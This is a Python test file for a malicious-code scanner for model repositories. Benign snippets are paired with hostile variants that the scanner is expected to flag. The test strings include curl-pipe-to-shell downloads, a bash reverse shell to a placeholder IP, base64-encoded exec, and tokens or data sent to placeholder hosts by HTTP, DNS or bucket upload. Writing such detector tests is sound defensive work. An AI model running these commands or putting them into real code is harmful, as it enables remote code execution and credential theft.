"""What honest repositories do in forms that hostile ones have too: each with the twin that must still be told."""

import pytest

from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.python.parsing import renewed
from tests.samples import inspect_tree

CONFIG = '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}'


def denied(name: str, code: str, **more: str) -> bool:
    files = {name: code} | ({"config.json": CONFIG} if name == "modeling_x.py" else {})
    files |= {each.replace("___", "/") + ".py": text for each, text in more.items()}
    found = inspect_tree({path: text.encode() for path, text in files.items()})
    return any(finding.severity.rank >= Severity.HIGH.rank for finding in found)


HASH = (
    "import os, subprocess\nfrom setuptools import setup\n"
    "def ask(cmd):\n    env = {k: os.environ[k] for k in ('PATH', 'HOME') if k in os.environ}\n"
    "    return subprocess.Popen(cmd, stdout=subprocess.PIPE, env=env).communicate()[0]\n"
    "setup(name='x', version=ask(['git', 'rev-parse', 'HEAD']).decode())\n"
)
PUBLISH = (
    "import os, sys\nfrom setuptools import Command, setup\n"
    "if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()\n"
    "class Upload(Command):\n    def run(self):\n        os.system('twine upload dist/*')\n"
    "setup(name='x', cmdclass={'upload': Upload})\n"
)


@pytest.mark.parametrize(
    ("code", "twin"),
    [
        (HASH, HASH.replace("['git', 'rev-parse', 'HEAD']", "open('notes').read()")),
        (HASH, HASH + "ask(['sh', 'notes'])\n"),
        (PUBLISH, PUBLISH.replace("'publish'", "'egg_info'")),
        (PUBLISH, PUBLISH.replace("'publish'", "'clean'")),
        (PUBLISH, PUBLISH.replace("sys.argv[-1]", "sys.argv[0]")),
        (PUBLISH, PUBLISH.replace("{'upload'", "{'install'")),
        (PUBLISH, PUBLISH + "Upload(None).run()\n"),
        (PUBLISH, PUBLISH.replace("'upload': Upload", "'upload': Upload, 'build_py': Upload")),
    ],
)
def test_setup(code: str, twin: str) -> None:
    assert not denied("setup.py", code)
    assert denied("setup.py", twin)


def test_arguments_decide_in_setup_only() -> None:
    code = "import os, sys\nif 'publish' in sys.argv:\n    os.system('twine upload dist/*')\n"
    assert not denied("setup.py", code)
    assert denied("modeling_x.py", code)


HANDLER = (
    "import boto3, os, requests, subprocess\nclass EndpointHandler:\n    def __init__(self, path=''):\n        {}\n"
    "    def __call__(self, data):\n        {}\n"
)


@pytest.mark.parametrize(
    ("start", "call", "expected"),
    [
        ("self.s3 = boto3.client('s3', aws_secret_access_key=os.environ['AWS_SECRET_ACCESS_KEY'])", "pass", False),
        ("self.s3 = boto3.client('s3', aws_secret_access_key='8kq0Zx')", "pass", True),
        ("self.s3 = boto3.client('s3')", "self.s3.upload_fileobj(draw(data), os.environ['BUCKET'], data['id'])", False),
        ("self.s3 = boto3.client('s3')", "self.s3.upload_fileobj(draw(data), 'c-loot', data['id'])", True),
        ("pass", "requests.post(data.get('callback_url'), json={'result': 1})", False),
        ("pass", "place = data.get('callback_url'); requests.post(place, json={'result': 1})", False),
        ("pass", "place = data.get('callback_url') or self.place; requests.post(place, json={'result': 1})", True),
        ("pass", "requests.post(data.get('callback_url', 'https://c.example/r'), json=data)", True),
        ("pass", "requests.post(self.place, json=data)", True),
        ("pass", "os.system('rm -rf /tmp/frames && mkdir -p /tmp/frames')", False),
        ("pass", "os.system('rm -rf /tmp/../home && mkdir -p /tmp/frames')", True),
        ("pass", "os.system('git clone https://c.example/r && cd r && make')", True),
        ("pass", "os.system('mkdir x; sh r')", True),
        ("subprocess.run('pip install -r requirements.txt', shell=True)", "pass", False),
    ],
)
def test_handlers(start: str, call: str, expected: bool) -> None:
    assert denied("handler.py", HANDLER.format(start, call)) is expected


def test_a_server_installs_packages_and_a_model_does_not() -> None:
    install = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', {}])\n"
    assert not denied("handler.py", install.format("'av'"))
    assert denied("handler.py", install.format("'--index-url', 'https://c.example/simple', 'av'"))
    assert denied("modeling_x.py", install.format("'av'"))
    source = "import os\nos.system('pip install git+https://github.com/{}/detectron2.git')\n"
    assert not denied("handler.py", source.format("facebookresearch"))
    assert denied("handler.py", source.format("somebody"))
    assert denied("handler.py", "import os\nos.system('pip install -i $INDEX av')\n")


def test_nodes_of_comfyui_install_what_they_need_and_other_packages_do_not() -> None:
    code = "import os, subprocess, sys{}\nsubprocess.run(f'\"{{sys.executable}}\" -m pip install {}', shell=True)\n"
    assert not denied("__init__.py", code.format(", folder_paths", "av"))
    assert denied("__init__.py", code.format("", "av"))
    assert denied("__init__.py", code.format(", folder_paths", "https://c.example/av.zip"))


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("subprocess.run([shutil.which('ffmpeg') or imageio_ffmpeg.get_ffmpeg_exe(), '-version'])", False),
        ("subprocess.run([shutil.which('ffmpeg') or config.player, '-version'])", True),
        ("subprocess.run([shutil.which('sh') or shutil.which('bash'), path])", True),
        ("requests.get('https://1.1.1.1')", False),
        ("requests.get('https://1.1.1.1/dns-query?name=' + path)", True),
        ("requests.get('https://203.0.113.7')", True),
    ],
)
def test_programs_and_hosts_that_are_known(line: str, expected: bool) -> None:
    code = "import imageio_ffmpeg, requests, shutil, subprocess\nclass M:\n"
    code += "    def forward(self, config, path):\n        "
    assert denied("modeling_x.py", code + line) is expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("subprocess.run([word for word in f'./ffmpeg -y -i {said} out.wav'.split(' ')])", False),
        ("subprocess.run([word for word in said.split(' ')])", True),
        ("subprocess.run(f'{said}'.split(' '))", True),
        ("return str(sympy.solve(sympy.sympify(said)))", False),
        ("return str(eval(said))", True),
    ],
)
def test_a_page_decides_what_is_run(line: str, expected: bool) -> None:
    code = "import gradio, subprocess, sympy\n"
    code += f"def run(said):\n    {line}\ngradio.Interface(run, 'text', 'text').launch()\n"
    assert denied("app.py", code) is expected


PUSHES = (
    "from huggingface_hub import HfApi\nclass M:\n"
    "    def push_to_hub(self, place, repo_id):\n"
    "        HfApi().upload_folder(folder_path=place, repo_id=repo_id)\n"
    "    def save_pretrained(self, place, **given):\n"
    "        self.push_to_hub(place, given['repo_id'])\n"
)


@pytest.mark.parametrize(
    "twin",
    [
        "for found in HfApi().list_models():\n            self.push_to_hub('.', found.id)",
        "self.push_to_hub('.', 'c/loot')",
        "place = name()\n        self.push_to_hub('.', repo_id=place)",
    ],
)
def test_uploads_go_where_the_caller_says(twin: str) -> None:
    assert not denied("modeling_x.py", PUSHES)
    assert denied("modeling_x.py", f"{PUSHES}    def forward(self, x):\n        {twin}\n")


READS = (
    "import requests\nfrom pathlib import Path\n"
    "token = (Path.home() / '.cache' / 'huggingface' / 'token').read_text().strip()\n"
)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "requests.get('https://huggingface.co/a/b/resolve/main/x', headers={'Authorization': f'Bearer {token}'})",
            False,
        ),
        ("requests.get('https://c.example/x', headers={'Authorization': token})", True),
        ("requests.post(open('where').read(), json={'t': token})", True),
        ("import socket\nsocket.gethostbyname(token[:30] + '.c.example')", True),
        ("from huggingface_hub import upload_file\nupload_file(path_or_fileobj=token.encode(), repo_id='c/x')", True),
    ],
)
def test_the_hub_is_shown_its_own_token(line: str, expected: bool) -> None:
    assert denied("convert.py", READS + line) is expected


CLIENT = (
    "import os\nfrom openai import OpenAI\nclient = OpenAI(api_key=os.getenv('DASHSCOPE_API_KEY'), base_url='{}')\n"
)


@pytest.mark.parametrize(
    ("address", "expected"),
    [("https://dashscope.aliyuncs.com/compatible-mode/v1", False), ("https://c.example/v1", True)],
)
def test_a_client_shows_its_service_the_key_of_it(address: str, expected: bool) -> None:
    assert denied("judge.py", CLIENT.format(address)) is expected


FFMPEG = (
    "import os, shutil, subprocess\nfrom torch import nn\nPROGRAM = find()\n"
    "class M(nn.Module):\n    def forward(self, path):\n"
    "        args = [PROGRAM, '-v', 'error', '-i', path]\n        args += ['-ar', '16000', '-f', 'wav', '-']\n"
    "        return subprocess.run(args).stdout\n"
)
FETCHER = (
    "import subprocess\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, url):\n"
    "        subprocess.run(['yt-dlp', '-f', 'best', '-o', 'x.mp4', url], check=True)\n"
)
GIVEN = (
    "from torch import nn\ndef check_dataset(data):\n    s = data.get('download')\n    exec(s, {'yaml': data})\n"
    "class M(nn.Module):\n    def forward(self, x):\n        return x\n"
)
QUIETLY = (
    "import contextlib, subprocess\nfrom torch import nn\nclass Quietly(contextlib.ContextDecorator):\n"
    "    def __enter__(self):\n        pass\n    def __exit__(self, *a):\n        return True\n"
    "@Quietly()\ndef install(name):\n    subprocess.check_output(f'pip install {name}', shell=True)\n"
    "class M(nn.Module):\n    def forward(self, x):\n        return x\n"
)


@pytest.mark.parametrize(
    ("code", "twin"),
    [
        (FFMPEG, FFMPEG.replace("find()", "os.path.dirname(__file__) + '/bin/helper'")),
        (FFMPEG, FFMPEG.replace("'-i', path", "'-c', path").replace("'-ar', '16000', ", "")),
        (FFMPEG, FFMPEG.replace("[PROGRAM,", "[self.config.program,")),
        (FETCHER, FETCHER.replace("'best'", "'best', '--exec', self.config.after")),
        (FETCHER, FETCHER.replace("'best'", "'best', '--exec', 'sh {}'")),
        (GIVEN, GIVEN + "check_dataset({'download': open('notes').read()})\n"),
        (GIVEN, GIVEN.replace("data.get('download')", "open('notes').read()")),
        (QUIETLY, QUIETLY + "install('helper')\n"),
        (QUIETLY, QUIETLY.replace("        pass", "        subprocess.run(['sh', 'notes'])")),
    ],
)
def test_of_models(code: str, twin: str) -> None:
    assert not denied("modeling_x.py", code)
    assert denied("modeling_x.py", twin)


def test_a_folder_whose_modules_are_imported_is_not_the_one_above() -> None:
    code = (
        "import importlib, os\nfor f in os.listdir(os.path.join(os.path.dirname(__file__), 'nodes')):\n"
        "    importlib.import_module(f'.nodes.{f[:-3]}', package=__name__)\n"
    )
    act = "import subprocess\nsubprocess.run(['sh', 'notes'])\n"
    assert not denied("__init__.py", code, install=act)
    assert denied("__init__.py", code, nodes___a=act)
    assert denied("__init__.py", code.replace("'.nodes.{f", "'.{f"), install=act)


def test_what_yara_looks_for() -> None:
    rule = 'import "pe"\n// shells\nrule Shell { strings: $a = "bash -i >& /dev/tcp/" condition: $a }\n'
    assert not denied("rules/shell.yar", rule)
    assert denied("rules/shell.sh", rule)
    assert denied("rules/shell.yar", "bash -i >& /dev/tcp/203.0.113.7/4242 0>&1\n" + rule)


CACHE = (
    "import os, pickle\nimport streamlit as st\npdf = st.file_uploader('PDF')\n"
    "if pdf is not None:\n    name = pdf.name[:-4]\n"
    "    if os.path.exists(f'{name}.pkl'):\n        with open(f'{name}.pkl', 'rb') as f:\n"
    "            store = pickle.load(f)\n    else:\n        store = [pdf.size]\n"
    "        with open(f'{name}.pkl', 'wb') as f:\n            pickle.dump(store, f)\n"
)


@pytest.mark.parametrize(
    "twin",
    [
        CACHE.replace("pickle.dump(store, f)", "f.write(pdf.read())"),
        CACHE.replace("pickle.dump(store, f)", "pickle.dump(store, f); f.seek(0); f.write(pdf.read())"),
        CACHE + "with open(f'{name}.pkl', 'wb') as g:\n    g.write(pdf.read())\n",
        CACHE.replace("open(f'{name}.pkl', 'rb')", "open(pdf.name, 'rb')"),
        CACHE.replace("pickle.load(f)", "pickle.load(pdf)"),
    ],
)
def test_what_a_program_has_pickled_itself(twin: str) -> None:
    assert not denied("app.py", CACHE)
    assert denied("app.py", twin)


QUEUE = (
    "import os, queue, subprocess\nclass A:\n    def __init__(self):\n        self.q = queue.Queue()\n"
    "    def start(self):\n"
    "        self.p = subprocess.Popen(['bash'], stdout=subprocess.PIPE, env={**os.environ, 'X': '1'})\n"
    "        self.read(self.p.stdout)\n"
    "    def read(self, stream):\n        for line in stream:\n            self.q.put(line)\n"
)


def test_a_queue_of_the_program_itself() -> None:
    assert not denied("core.py", QUEUE)
    assert denied("core.py", QUEUE.replace("queue.Queue()", "make('https://q.metrics.example')"))


OLD = 'import os\nprint "%s" % (\n    os.getpid(),)\ntry:\n    x = 0755 <> 3L\nexcept IOError, e:\n    print e, `x`\n'


@pytest.mark.parametrize(
    ("code", "parsed"),
    [
        (OLD, True),
        ("x = 1\n<<<<<<< HEAD\ny = 2\n=======\ny = 3\n>>>>>>> branch\n", True),
        ("%matplotlib inline\n!ls\nx = 1\n", True),
        ("def f(:\n    pass\n", False),
        ("import {{ cookiecutter.slug }}\n", False),
    ],
)
def test_sources_of_older_pythons(code: str, parsed: bool) -> None:
    assert (renewed(code) is not None) is parsed


@pytest.mark.parametrize(
    "act",
    [
        "os.system('curl http://203.0.113.5/x | sh')\n",
        "exec __import__('base64').b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ==')\n",
        "print os.system('curl http://203.0.113.5/x | sh')\n",
        "raise ValueError, os.system('curl http://203.0.113.5/x | sh')\n",
        "x = `os.system('curl http://203.0.113.5/x | sh')`\n",
    ],
)
def test_what_sources_of_older_pythons_do(act: str) -> None:
    assert not denied("train.py", OLD)
    assert denied("train.py", OLD + act)


def test_a_function_of_a_cloud_uses_the_storage_of_its_owner() -> None:
    code = (
        "import boto3, os\ns3 = boto3.client('s3')\n"
        "def lambda_handler(event, context):\n"
        "    s3.put_object(Bucket=os.environ['BUCKET'], Key='k', Body=event['body'])\n"
    )
    named = "functions:\n  predict:\n    handler: lambda_function.lambda_handler\n"

    def high(text: str) -> bool:
        files = {"lambda_function.py": text.encode(), "serverless.yml": named.encode()}
        return any(each.severity.rank >= Severity.HIGH.rank for each in inspect_tree(files))

    assert not high(code)
    assert high(code.replace("'s3')", "'s3', aws_access_key_id='AKIAIOSFODNN7EXAMPLE', aws_secret_access_key='a')"))
    assert high(code.replace("boto3.client('s3')", "os.system('sh notes')"))


WORKED_ON = (
    "import os, requests, subprocess, uuid\nclass EndpointHandler:\n    def __init__(self, path=''):\n        pass\n"
    "    def __call__(self, data):\n        p = f'/tmp/out/{uuid.uuid4()}.mp4'\n"
    "        with requests.get(data['url']) as r:\n            open(p, 'wb').write(r.content)\n"
    "        subprocess.run(['ffmpeg', '-i', p, 'o.wav'])\n        return [{'ok': True}]\n"
)


@pytest.mark.parametrize(
    "twin",
    [
        WORKED_ON.replace("/tmp/out/{uuid.uuid4()}.mp4", "/tmp/asked.log").replace("'wb'", "'ab'"),
        WORKED_ON.replace("{uuid.uuid4()}.mp4", ".{uuid.uuid4()}.mp4"),
        WORKED_ON.replace("        subprocess.run(['ffmpeg', '-i', p, 'o.wav'])\n", ""),
    ],
)
def test_a_film_that_a_handler_works_on(twin: str) -> None:
    assert not denied("handler.py", WORKED_ON)
    assert denied("handler.py", twin)
